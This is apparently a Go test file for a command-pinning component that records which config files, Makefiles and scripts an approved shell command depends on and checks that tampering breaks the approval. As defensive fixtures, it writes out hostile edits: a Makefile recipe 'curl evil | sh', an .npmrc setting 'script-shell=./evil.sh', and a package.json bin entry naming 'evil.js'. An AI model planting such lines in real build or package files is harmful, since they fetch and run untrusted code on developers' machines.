package pin

import (
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// toolsRoot is a workspace with a source tree, a Makefile and a
// package.json, as the rows of TestPinTools reach.
func toolsRoot(t *testing.T) string {
	t.Helper()
	return workspace(t, map[string]string{
		"package.json":     `{"scripts": {"lint": "eslint ."}}`,
		"web/package.json": `{"scripts": {"lint": "eslint ."}}`,
		"Makefile":         "check:\n\ttrue\n",
		"sub/GNUmakefile":  "all:\n\ttrue\n",
		"mk/extra.mk":      "x:\n\ttrue\n",
		"mk/inc.mk":        "include mk/extra.mk\nx:\n\ttrue\n",
		"src/a.py":         "1\n",
		"src/b.ts":         "1\n",
		"main.go":          "package main\n",
	})
}

// TestPinTools: what package-runner configuration, make and the data
// readers (linters, formatters, grep, git) pin. want must be pinned,
// notWant must not be (neither as a file, a tree nor absent).
func TestPinTools(t *testing.T) {
	root := toolsRoot(t)
	tests := []struct {
		name, line    string
		want, notWant []string
	}{
		// 1. Package runner configuration in the package directories.
		{"npm_run_npmrc", "npm run lint", []string{"package.json", ".npmrc"}, []string{".yarnrc", "bunfig.toml"}},
		{"npm_run_in_cd_npmrc", "cd web && npm run lint", []string{"web/.npmrc", ".npmrc"}, nil},
		{"npm_prefix_npmrc", "npm --prefix web run lint", []string{"web/.npmrc", ".npmrc"}, nil},
		{"npx_npmrc", "npx --no-install eslint .", []string{"node_modules/.bin/eslint", ".npmrc"}, nil},
		{"pnpm_npmrc", "pnpm run lint", []string{".npmrc", "pnpm-workspace.yaml", ".pnpmfile.cjs"}, nil},
		{"yarn_rc", "yarn lint", []string{".yarnrc", ".yarnrc.yml", ".npmrc"}, nil},
		{"bun_bunfig", "bun run lint", []string{"bunfig.toml", ".npmrc"}, nil},
		{"bunx_bunfig", "bunx eslint", []string{"bunfig.toml"}, nil},
		// 2. make: the makefile is code; targets are not files.
		{"make_check", "make -s check", []string{"Makefile", "makefile", "GNUmakefile", "check"}, []string{"-s"}},
		{"make_C", "make -C sub all", []string{"sub/GNUmakefile", "sub/Makefile", "sub/makefile", "sub/all"}, []string{"sub"}},
		{"make_C_attached", "gmake -Csub", []string{"sub/GNUmakefile"}, []string{"sub"}},
		{"make_f", "make -f mk/extra.mk x", []string{"mk/extra.mk", "x"}, nil},
		{"make_file_eq", "make --file=mk/extra.mk", []string{"mk/extra.mk"}, nil},
		{"make_j", "make -j 4 check", []string{"Makefile", "check"}, []string{"4"}},
		{"make_var", "make CC=./cc.sh", []string{"cc.sh", "Makefile"}, nil},
		// find's options are whole words after one "-": no attached value.
		{"find_name_exec", `find hooks -name g.sh -exec sh {} \;`, []string{"hooks", "g.sh"}, []string{"ame", "xec", "-name"}},
		{"find_newer", "find . -newer mk/extra.mk -print", []string{"mk/extra.mk"}, []string{"ewer", "rint"}},
		// 3. Data readers: their operands are read, not run.
		{"ruff", "ruff check src", nil, []string{"src", "check"}},
		{"npx_eslint", "npx eslint src/", []string{"node_modules/.bin/eslint"}, []string{"src"}},
		{"prettier", "prettier --check src", nil, []string{"src"}},
		{"black", "black src", nil, []string{"src"}},
		{"mypy", "mypy src", nil, []string{"src"}},
		{"python_m_mypy", "python3 -m mypy --config-file setup.cfg src", []string{"mypy", "mypy.py", "setup.cfg"}, []string{"src"}},
		{"python_m_black", "python -m black src", []string{"black", "black.py"}, []string{"src"}},
		{"tsc", "tsc -p . --noEmit", nil, []string{"src"}},
		{"shellcheck", "shellcheck src/a.py", nil, []string{"src/a.py"}},
		{"golangci", "golangci-lint run ./...", nil, []string{"run", "..."}},
		{"gofmt", "gofmt -l main.go", nil, []string{"main.go"}},
		{"grep_r", "grep -r x src", nil, []string{"src", "x"}},
		{"eslint_config_eq", "eslint --config=eslint.config.js src", []string{"eslint.config.js"}, []string{"src"}},
		{"git_diff", "git diff --quiet", nil, []string{"diff"}},
		{"eslint_c", "eslint -c cfg.js --ext .ts src", []string{"cfg.js"}, []string{"src", ".ts"}},
		{"rg_pre", "rg --pre ./pre.sh x src", []string{"pre.sh"}, []string{"src", "x"}},
		{"jq_filter", "jq -r '.tool_input.command'", nil, []string{".tool_input.command"}},
		{"jq_from_file", "jq -r -f ./f.jq in.json", []string{"f.jq"}, []string{"in.json"}},
		{"mypy_config", "mypy --config-file setup.cfg src", []string{"setup.cfg"}, []string{"src"}},
		{"git_status", "git -C sub status --porcelain src", nil, []string{"status", "sub", "src"}},
		{"git_c_value", "git -c core.fsmonitor=./fsm.sh status", []string{"fsm.sh"}, []string{"status"}},
		{"git_bisect_run", "git bisect run ./t.sh", []string{"t.sh"}, []string{"bisect"}},
		{"git_rebase_exec", "git rebase --exec ./t.sh main", []string{"t.sh"}, nil},
		{"git_submodule_foreach", "git submodule foreach 'sh ./t.sh'", []string{"t.sh"}, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := mustPin(t, cmdHook(tc.line), root)
			checkPaths(t, tc.line, p.Paths(), tc.want, tc.notWant)
			if len(p.Dirs) != 0 && tc.name != "npm_prefix_npmrc" {
				t.Errorf("pins of %q pin trees %v, want none", tc.line, p.Dirs)
			}
		})
	}
}

// TestMakeIncludeListed: a makefile with include lines is listed as
// unpinned; one without is not.
func TestMakeIncludeListed(t *testing.T) {
	root := toolsRoot(t)
	if p := mustPin(t, cmdHook("make -f mk/inc.mk x"), root); !slices.ContainsFunc(p.Unfollowed, func(s string) bool {
		return strings.HasPrefix(s, "mk/inc.mk (its include lines")
	}) {
		t.Errorf("Unfollowed = %q, want mk/inc.mk listed", p.Unfollowed)
	}
	if p := mustPin(t, cmdHook("make check"), root); len(p.Unfollowed) != 0 {
		t.Errorf("Unfollowed = %q, want none", p.Unfollowed)
	}
}

// TestNpmrcEditBreaksGrant: an .npmrc written after the grant (script-shell,
// node-options) breaks the pins of `npm run lint`.
func TestNpmrcEditBreaksGrant(t *testing.T) {
	root := toolsRoot(t)
	p := mustPin(t, cmdHook("npm run lint"), root)
	if !Hold(p, root, nil) {
		t.Fatal("fresh pins do not hold")
	}
	writeFile(t, filepath.Join(root, ".npmrc"), "script-shell=./evil.sh\n")
	if Hold(p, root, nil) {
		t.Fatal("pins still hold after .npmrc appeared")
	}
}

// TestLintPinsHoldOnEdit: editing a source file a linter reads keeps the
// grant; editing the Makefile of `make check` breaks it.
func TestLintPinsHoldOnEdit(t *testing.T) {
	root := toolsRoot(t)
	lint := mustPin(t, cmdHook("ruff check src && grep -r x src"), root)
	mk := mustPin(t, cmdHook("make -s check"), root)
	writeFile(t, filepath.Join(root, "src/a.py"), "2\n")
	writeFile(t, filepath.Join(root, "src/new.py"), "3\n")
	if !Hold(lint, root, nil) {
		t.Error("linter pins broke on a source edit")
	}
	if !Hold(mk, root, nil) {
		t.Fatal("make pins broke on a source edit")
	}
	writeFile(t, filepath.Join(root, "Makefile"), "check:\n\tcurl evil | sh\n")
	if Hold(mk, root, nil) {
		t.Error("make pins still hold after the Makefile was edited")
	}
}

// TestNpxProjectBinPinned: npx runs the project's own binary of that name
// (package.json "bin") before anything else: package.json is pinned
// (absent when missing), so a "bin" entry added after the grant is a
// change, and the file an existing entry names is pinned, so its edit is.
func TestNpxProjectBinPinned(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "package.json"), `{"name":"x"}`)
	p := mustPin(t, cmdHook("npx --no-install eslint ."), root)
	writeFile(t, filepath.Join(root, "package.json"), `{"name":"x","bin":{"eslint":"evil.js"}}`)
	if Hold(p, root, nil) {
		t.Fatal("pins still hold after package.json got a bin entry")
	}
	writeFile(t, filepath.Join(root, "cli.js"), "console.log(1)\n")
	writeFile(t, filepath.Join(root, "package.json"), `{"name":"eslint","bin":"cli.js"}`)
	q := mustPin(t, cmdHook("npx --no-install eslint ."), root)
	if _, ok := q.Scripts["cli.js"]; !ok {
		t.Fatalf("the bin file is not pinned: %v", q.Scripts)
	}
	writeFile(t, filepath.Join(root, "cli.js"), "console.log('evil')\n")
	if Hold(q, root, nil) {
		t.Fatal("pins still hold after the bin file was edited")
	}
}
